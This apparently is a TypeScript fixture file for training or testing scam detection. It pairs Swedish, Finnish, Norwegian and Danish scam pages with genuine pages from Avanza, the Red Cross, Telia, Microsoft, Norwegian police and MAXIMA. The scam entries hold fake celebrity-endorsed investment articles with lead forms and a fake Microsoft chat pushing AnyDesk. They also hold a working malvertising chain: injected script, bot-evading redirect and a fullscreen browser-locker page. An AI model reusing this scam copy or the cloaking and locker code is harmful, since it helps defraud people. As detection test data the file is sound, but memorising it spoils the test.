import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardCss, govCss, baseCss, newsCss, newsShell, cardFormatJs, cookieBanner, gtm, b64 } from '../parts/yb-kit.js';
import { jsRoute, jsonRoute, fileRoute, beepWav } from '../parts/e-bin.js';

// Investment scams with celebrity endorsements, job, lottery, charity, romance and police-locker scams,
// tech-support scams; and the legitimate brokers, charities, support lines and promotions.

const leadForm = (action: string, prefix: string, btn: string, labels: [string, string, string, string]): string =>
  `<form class="lead" method="post" action="${action}"><input name="first_name" placeholder="${labels[0]}" required><input name="last_name" placeholder="${labels[1]}" required><input name="email" type="email" placeholder="${labels[2]}" required><div style="display:flex;gap:6px"><input name="prefix" value="${prefix}" style="width:80px"><input name="phone" type="tel" placeholder="${labels[3]}" required></div><button>${btn}</button></form>`;
const leadCss = `.lead{background:#fff;border-radius:10px;padding:20px;box-shadow:0 4px 20px #0002}.lead input{display:block;width:100%;padding:12px;margin:6px 0;border:1px solid #bbb;border-radius:6px;font-size:15px}.lead button{width:100%;padding:15px;background:#1fa34a;color:#fff;font-weight:800;font-size:17px;border:0;border-radius:6px;margin-top:8px}`;

export const entries: Entry[] = [
  {
  id: 'yb-se-fake-aftonbladet-zlatan-invest',
  label: 'scam',
  kind: 'celebrity-investment-scam',
  url: 'https://nyheter24-idag.site/ekonomi/zlatan-avslojar-hemligheten/',
  body: doc({
    lang: 'sv',
    title: 'Zlatan avslöjar i direktsändning hur han tjänar 90 000 kr i veckan – banken försöker stoppa honom',
    css: `${newsCss}${leadCss}`,
    body: newsShell({
      brand: 'Aftonbladet',
      color: '#e3000f',
      nav: ['Nyheter', 'Sport', 'Nöje', 'Ekonomi', 'Plus'],
      article: `<div class="kicker">EXKLUSIVT</div>
<h1>Zlatan avslöjar i direktsändning hur han tjänar 90 000 kr i veckan – nu försöker bankerna stoppa honom</h1>
<p class="ingress">Under gårdagens intervju berättade Zlatan Ibrahimović om den nya plattformen som gör vanliga svenskar rika. Sändningen avbröts – men vi fick tag på hela klippet.</p>
<div class="meta">Publicerad idag 06:14 · Av Redaktionen</div>
<figure><div class="ph"></div><figcaption>Zlatan under intervjun. Foto: TT</figcaption></figure>
<p>– Jag har investerat i Quantum AI i ett år. Det är det bästa jag har gjort. Du sätter in 2 500 kronor och systemet handlar åt dig med artificiell intelligens, sa Zlatan.</p>
<p>Programledaren blev tydligt förvånad och ville testa själv direkt i sändningen. Efter 20 minuter hade hennes konto ökat från 2 500 kr till 7 140 kr.</p>
<p>Riksbanken har redan kontaktat kanalen och krävt att klippet tas bort. Vi skyndar oss därför att publicera informationen innan den försvinner.</p>
<p><b>Så kommer du igång:</b> Registrera dig nedan. En personlig kontoansvarig ringer upp dig inom 24 timmar.</p>
${leadForm('https://go.quantumai-sverige.pro/api/lead?aff=4471&src=ab', '+46', 'REGISTRERA DIG NU', ['Förnamn', 'Efternamn', 'E-post', 'Telefonnummer'])}
<p style="font-size:13px;color:#777">Endast 17 platser kvar för Sverige idag.</p>`,
      aside: `<div class="teaser"><b>Lena Olin: «Detta förändrade mitt liv»</b></div><div class="teaser"><b>Så slutade 3 av 4 svenskar oroa sig för elräkningen</b></div>`,
      footer: 'Aftonbladet Hierta AB · Ansvarig utgivare',
    }),
  }),
},
  {
  id: 'yb-fi-fake-iltalehti-raikkonen',
  label: 'scam',
  kind: 'celebrity-investment-scam',
  url: 'https://iltalehti-uutiset.news/talous/kimi-raikkonen-paljastaa',
  body: doc({
    lang: 'fi',
    title: 'Kimi Räikkönen paljastaa: näin ansaitsen 15 000 € kuukaudessa',
    css: `${newsCss}${leadCss}`,
    body: newsShell({
      brand: 'Iltalehti',
      color: '#e2001a',
      nav: ['Uutiset', 'Urheilu', 'Viihde', 'Talous'],
      article: `<h1>Kimi Räikkönen paljastaa: näin ansaitsen 15 000 € kuukaudessa ilman työtä</h1>
<p class="ingress">Entinen maailmanmestari kertoi haastattelussa sijoitusalustasta, josta pankit eivät halua sinun tietävän.</p>
<div class="meta">Julkaistu tänään</div>
<figure><div class="ph"></div></figure>
<p>– Mä en tykkää puhua rahasta, mutta tämä on niin helppoa, että kaikkien pitäisi kokeilla, Räikkönen sanoi.</p>
<p>Alusta nimeltä <b>Immediate Connect</b> käyttää tekoälyä kryptovaluuttakaupassa. Pienin talletus on 250 €.</p>
<p>Suomen Pankki on vaatinut haastattelun poistamista.</p>
${leadForm('https://immediate-connect-fi.app/api/v2/leads', '+358', 'ALOITA NYT', ['Etunimi', 'Sukunimi', 'Sähköposti', 'Puhelin'])}`,
    }),
  }),
},
  {
  id: 'yb-no-microsoft-chat-anydesk',
  label: 'scam',
  kind: 'tech-support-scam',
  url: 'https://kundestotte-microsoft.no-hjelp.com/chat',
  body: doc({
    lang: 'no',
    title: 'Microsoft Kundestøtte – Chat',
    css: `${baseCss}
body{background:#f3f2f1}
.h{background:#fff;padding:14px 30px;border-bottom:1px solid #ddd;display:flex;gap:10px;align-items:center}
.sq{display:grid;grid-template-columns:12px 12px;gap:2px}.sq i{width:12px;height:12px;display:block}
.chat{max-width:560px;margin:26px auto;background:#fff;border-radius:8px;box-shadow:0 2px 10px #0002}
.chat .m{padding:14px 18px;border-bottom:1px solid #eee;font-size:15px}
.chat .m b{color:#0078d4}
.dl{display:inline-block;margin-top:8px;background:#0078d4;color:#fff;padding:10px 18px;border-radius:4px;text-decoration:none}`,
    body: `<div class="h"><div class="sq"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div><b>Microsoft</b> | Kundestøtte</div>
<div class="chat">
<div class="m"><b>Tekniker Daniel (Microsoft-sertifisert):</b> Hei, takk for at du kontaktet Microsoft kundestøtte. Vi har oppdaget at Windows-lisensen din er kompromittert og at hackere har tilgang til nettbanken din.</div>
<div class="m"><b>Tekniker Daniel:</b> For at jeg skal kunne fjerne hackerne, må du laste ned vårt sikre støtteverktøy og gi meg den 9-sifrede koden.</div>
<div class="m"><a class="dl" href="/download/MicrosoftSupport-AnyDesk.exe">Last ned støtteverktøy</a></div>
<div class="m"><b>Tekniker Daniel:</b> Etter tilkobling logger du inn i nettbanken slik at jeg kan kontrollere at pengene dine er trygge. Ikke legg på.</div>
<div class="m" style="color:#666">Eller ring oss: <b>+47 21 98 44 10</b></div>
</div>`,
  }),
  routes: {
    'kundestotte-microsoft.no-hjelp.com/download/MicrosoftSupport-AnyDesk.exe': redirectRoute(302, 'https://download.anydesk.com/AnyDesk.exe'),
  },
},
  {
  id: 'yb-dk-malvertising-chain-locker',
  label: 'scam',
  kind: 'tech-support-scam',
  url: 'https://www.opskrifter-nemme.dk/boller-i-karry/',
  body: doc({
    lang: 'da',
    title: 'Boller i karry – den klassiske opskrift',
    css: `${baseCss}main{max-width:720px;margin:30px auto;padding:0 20px;font:18px/1.6 Georgia,serif}`,
    body: `<main><h1>Boller i karry – mormors opskrift</h1>
<p>Den klassiske danske ret med kødboller i cremet karrysauce. Server med ris og syltede rødbeder.</p>
<h2>Ingredienser</h2><ul><li>500 g hakket svinekød</li><li>1 løg</li><li>2 spsk karry</li><li>5 dl bouillon</li></ul>
</main>
<script>
(function(){var k='_pv_'+new Date().getDate();if(sessionStorage.getItem(k))return;sessionStorage.setItem(k,1);
var s=document.createElement('script');s.src='https://cdn.adsrvr-popnet.com/tag.js?zid=88412&r='+encodeURIComponent(document.referrer);document.head.appendChild(s);})();
</script>`,
  }),
  routes: {
    'cdn.adsrvr-popnet.com/tag.js': jsRoute(`(function(){if(/bot|crawl|spider|Headless/i.test(navigator.userAgent))return;setTimeout(function(){window.top.location.href='https://track.popnet-ads.com/c?z=88412&geo=DK';},3500);})();`),
    'track.popnet-ads.com/c': redirectRoute(302, 'https://dk-sikkerhed-windows.web.app/advarsel/?tel=%2B4578772014'),
    'dk-sikkerhed-windows.web.app/advarsel/': htmlRoute(
      doc({
        lang: 'da',
        title: 'Windows Sikkerhed – Advarsel',
        css: `${baseCss}body{background:#0078d4;color:#fff;text-align:center;padding-top:80px}.b{background:#fff;color:#111;max-width:520px;margin:0 auto;padding:24px}.p{color:#c50f1f;font-size:26px;font-weight:800}`,
        body: `<div class="b"><h2>Windows Defender – Sikkerhedsadvarsel</h2><p>Adgang til denne pc er blokeret af sikkerhedsårsager. Din pc er inficeret med spyware, der stjæler dine MitID-oplysninger.</p><p>Ring til Microsoft Support:</p><p class="p" id="tel"></p><p>Luk ikke denne side – din pc vil blive deaktiveret.</p></div><script>var t=new URLSearchParams(location.search).get('tel')||'+45 78 77 20 14';document.getElementById('tel').textContent=t;document.onclick=function(){document.documentElement.requestFullscreen()};setInterval(function(){alert('Ring '+t+' nu')},10000);</script>`,
      }),
    ),
  },
},
  {
  id: 'yb-se-avanza-fond-own',
  label: 'clean',
  kind: 'investment-own-domain',
  url: 'https://www.avanza.se/fonder/om-fonden.html/878733/avanza-global',
  body: doc({
    lang: 'sv',
    title: 'Avanza Global – Fond | Avanza',
    head: gtm('GTM-PZ4L7W'),
    css: `${baseCss}
body{background:#f7f7f7}
header{background:#fff;padding:0 30px;height:64px;display:flex;align-items:center;justify-content:space-between;border-bottom:1px solid #e3e3e3}
header b{color:#00c281;font-size:22px}
main{max-width:1080px;margin:24px auto;padding:0 20px;display:grid;grid-template-columns:2fr 1fr;gap:24px}
.box{background:#fff;border-radius:8px;padding:22px}
table{width:100%;border-collapse:collapse}td{padding:8px 0;border-bottom:1px solid #eee}
.up{color:#00a36c;font-weight:700}
.btn{display:block;text-align:center;padding:13px;background:#00c281;color:#fff;text-decoration:none;border-radius:6px;font-weight:700;margin-bottom:10px}
.risk{display:flex;gap:4px}.risk i{flex:1;height:10px;background:#ddd}.risk i.on{background:#00c281}`,
    body: `<header><b>Avanza</b><span><a href="https://www.avanza.se/logga-in">Logga in</a> · <a href="https://www.avanza.se/oppna-konto">Bli kund</a></span></header>
<main>
<div class="box">
<h1>Avanza Global</h1>
<p>Indexfond · Global · Avgift 0,09 %</p>
<table><tr><td>Utveckling 1 år</td><td class="up">+18,42 %</td></tr><tr><td>Utveckling 3 år</td><td class="up">+31,07 %</td></tr><tr><td>Fondförmögenhet</td><td>48 213 MSEK</td></tr><tr><td>Jämförelseindex</td><td>Solactive GBS Developed Markets Large & Mid Cap</td></tr></table>
<h3>Risknivå</h3><div class="risk"><i class="on"></i><i class="on"></i><i class="on"></i><i class="on"></i><i></i><i></i><i></i></div>
<p style="font-size:13px;color:#555">Historisk avkastning är ingen garanti för framtida avkastning. Pengarna som placeras i fonden kan både öka och minska i värde och det är inte säkert att du får tillbaka hela det insatta kapitalet. Läs faktabladet innan du investerar.</p>
</div>
<div class="box">
<a class="btn" href="https://www.avanza.se/handla/fonder.html?id=878733">Köp</a>
<a class="btn" style="background:#fff;color:#00c281;border:2px solid #00c281" href="https://www.avanza.se/oppna-konto/isk">Öppna ISK med BankID</a>
<p style="font-size:13px">Avanza ringer aldrig och ber dig investera eller logga in. Kundservice: 08-562 250 00.</p>
</div>
</main>`,
  }),
},
  {
  id: 'yb-fi-punainen-risti-lahjoita-own',
  label: 'clean',
  kind: 'charity-donation-own-domain',
  url: 'https://www.punainenristi.fi/lahjoita/katastrofirahasto/',
  body: doc({
    lang: 'fi',
    title: 'Lahjoita Katastrofirahastoon | Suomen Punainen Risti',
    css: `${govCss}
header.top b{color:#e1001a;font-size:22px}
.form input{padding:10px;border:1px solid #999;margin:4px 0 10px;width:260px}`,
    body: `<header class="top"><div class="in"><b>✚ Punainen Risti</b><span>Lahjoita</span></div></header>
<main><div class="in">
<h1>Lahjoita Katastrofirahastoon</h1>
<p class="lead">Katastrofirahaston avulla autamme nopeasti, kun katastrofi iskee – myös Ukrainassa.</p>
<div class="cols">
<div class="box"><h3>MobilePay</h3><p>Lahjoita MobilePaylla numeroon <b>10400</b>.</p></div>
<div class="box"><h3>Tilisiirto</h3><p>FI52 1112 3000 3000 86, viite 5513</p></div>
<div class="box form"><h3>Verkkopankki tai kortti</h3><form method="post" action="/lahjoita/maksa"><input name="summa" value="50" inputmode="numeric"> €<br><button class="btn">Siirry maksamaan</button></form></div>
</div>
<p style="font-size:13px">Rahankeräyslupa RA/2020/639, Poliisihallitus. Emme koskaan pyydä lahjoituksia kryptovaluuttana.</p>
</div></main>`,
  }),
},
  {
  id: 'yb-se-telia-kundservice-own',
  label: 'clean',
  kind: 'support-page-own-domain',
  url: 'https://www.telia.se/privat/support/kontakta-oss',
  body: doc({
    lang: 'sv',
    title: 'Kontakta oss – Kundservice | Telia',
    css: `${govCss}
header.top b{color:#990ae3;font-size:26px}
.num{font-size:28px;font-weight:800;color:#990ae3}`,
    body: `<header class="top"><div class="in"><b>Telia</b><span>Mitt Telia</span></div></header>
<main><div class="in">
<h1>Kontakta oss</h1>
<div class="cols">
<div class="box"><h3>Ring kundservice</h3><p class="num">90 200</p><p>Vardagar 08–20, helger 10–16. Från utlandet: +46 771 99 02 00.</p></div>
<div class="box"><h3>Chatta med oss</h3><p>Logga in på Mitt Telia för att chatta med en kundtjänstmedarbetare.</p><a class="btn" href="https://www.telia.se/mitt-telia">Logga in</a></div>
<div class="box"><h3>Teknisk support</h3><p>Felsök ditt bredband och din tv-box med vår guide, eller ring 90 200 och välj Tekniska frågor.</p></div>
</div>
<h2>Har du fått ett misstänkt samtal?</h2>
<p>Telia ringer aldrig och ber dig installera program för fjärrstyrning, till exempel AnyDesk eller TeamViewer. Vi ber dig aldrig legitimera dig med BankID i telefon. Lägg på och ring oss på 90 200.</p>
</div></main>`,
  }),
},
  {
  id: 'yb-dk-microsoft-support-svindel-own',
  label: 'clean',
  kind: 'support-article-own-domain',
  url: 'https://support.microsoft.com/da-dk/windows/beskyt-dig-mod-svindel-med-teknisk-support-2ebf91bd-f94c-2a8a-e541-f5c800d18435',
  body: doc({
    lang: 'da',
    title: 'Beskyt dig mod svindel med teknisk support - Microsoft Support',
    css: `${baseCss}
header{padding:12px 30px;border-bottom:1px solid #e1e1e1;display:flex;gap:10px;align-items:center}
.sq{display:grid;grid-template-columns:10px 10px;gap:2px}.sq i{width:10px;height:10px;display:block}
main{max-width:820px;margin:0 auto;padding:30px 20px}
.ex{border:1px solid #c50f1f;background:#fff5f5;padding:14px;font-family:Segoe UI,Arial;margin:14px 0}`,
    body: `<header><div class="sq"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div><b>Microsoft</b> | Support</header>
<main>
<h1>Beskyt dig mod svindel med teknisk support</h1>
<p>Svindel med teknisk support er et problem i hele branchen, hvor svindlere forsøger at skræmme dig til at betale for unødvendige tjenester.</p>
<h2>Sådan ser en falsk advarsel ud</h2>
<div class="ex"><b>Windows Defender – Sikkerhedsadvarsel</b><br>Adgang til denne pc er blokeret af sikkerhedsårsager. Ring til Microsoft Support: +45 XX XX XX XX</div>
<p>Microsofts fejl- og advarselsmeddelelser indeholder aldrig telefonnumre. Microsoft ringer ikke uopfordret til dig for at tilbyde teknisk support.</p>
<h2>Hvis du ser en sådan side</h2>
<ol><li>Ring ikke til nummeret.</li><li>Luk browseren med Ctrl+Shift+Esc (Jobliste) hvis siden ikke kan lukkes.</li><li>Installer ikke fjernadgangsprogrammer som AnyDesk eller TeamViewer på opfordring.</li></ol>
<p>Anmeld svindel på <a href="https://www.microsoft.com/reportascam">www.microsoft.com/reportascam</a>.</p>
</main>`,
  }),
},
  {
  id: 'yb-no-politiet-rad-svindel-own',
  label: 'clean',
  kind: 'fraud-advice-own-domain',
  url: 'https://www.politiet.no/rad/svindel-og-bedrageri/',
  body: doc({
    lang: 'no',
    title: 'Svindel og bedrageri - Politiet',
    css: `${govCss}
header.top{background:#0b2341}header.top b{color:#fff;font-size:24px}header.top span{color:#fff}
blockquote{background:#f2f2f2;border-left:4px solid #0b2341;margin:10px 0;padding:10px 14px;font-family:Menlo,monospace;font-size:14px}`,
    body: `<header class="top"><div class="in"><b>POLITIET</b><span>Nødnummer 112 · Sentralbord 02800</span></div></header>
<main><div class="in">
<h1>Svindel og bedrageri</h1>
<p class="lead">Politiet vil aldri be deg betale bøter via nettleseren, med gavekort eller Paysafecard.</p>
<h2>Vanlige svindelforsøk</h2>
<p>«Politivirus»: En side i nettleseren påstår at datamaskinen er blokkert av politiet, og krever at du betaler et forelegg:</p>
<blockquote>POLITIET – Datamaskinen din er blokkert på grunn av ulovlig aktivitet. Betal 3 000 kr med Paysafecard innen 12 timer.</blockquote>
<p>Dette er svindel. Lukk nettleseren, og ikke betal.</p>
<p>Falske SMS-er fra «Posten», «NAV» eller «Skatteetaten» med lenker:</p>
<blockquote>NAV: Du har 6 430 kr i tilgode feriepenger. Bekreft kontonummer: hxxps://nav-no[.]utbetaling-feriepenger[.]com</blockquote>
<h2>Har du blitt svindlet?</h2>
<p>Kontakt banken din straks, og anmeld forholdet på <a href="https://www.politiet.no/tjenester/anmelde/">politiet.no</a>.</p>
</div></main>`,
  }),
},
  {
  id: 'yb-lv-maxima-akcija-noteikumi-own',
  label: 'clean',
  kind: 'promotion-own-domain',
  url: 'https://www.maxima.lv/akcijas/laime-ar-paldies-karti',
  body: doc({
    lang: 'lv',
    title: 'Laimē ar MAXIMA Paldies karti | MAXIMA',
    css: `${govCss}
header.top{background:#e30613}header.top b{color:#fff;font:900 26px Arial}header.top span{color:#fff}`,
    body: `<header class="top"><div class="in"><b>MAXIMA</b><span>Paldies karte</span></div></header>
<main><div class="in">
<h1>Laimē ar MAXIMA Paldies karti!</h1>
<p class="lead">Iepērcies par 20 € vai vairāk ar Paldies karti un piedalies izlozē. Katru nedēļu izlozējam 30 dāvanu kartes 100 € vērtībā.</p>
<div class="box"><h3>Akcijas noteikumi</h3><ol><li>Akcija norisinās no 1. līdz 30. aprīlim visos MAXIMA veikalos Latvijā.</li><li>Uzvarētājus izlozē katru pirmdienu, un viņi tiek informēti ar īsziņu no MAXIMA.</li><li>Balvas saņemšanai nav jāmaksā nekādas piegādes vai apstrādes maksas.</li><li>MAXIMA nekad neprasa dalīties ar akciju WhatsApp grupās.</li></ol></div>
<p>Akcijas organizētājs: SIA «MAXIMA Latvija», Abrenes iela 2, Rīga. Uzziņas: 80 00 4040.</p>
</div></main>`,
  }),
},
];
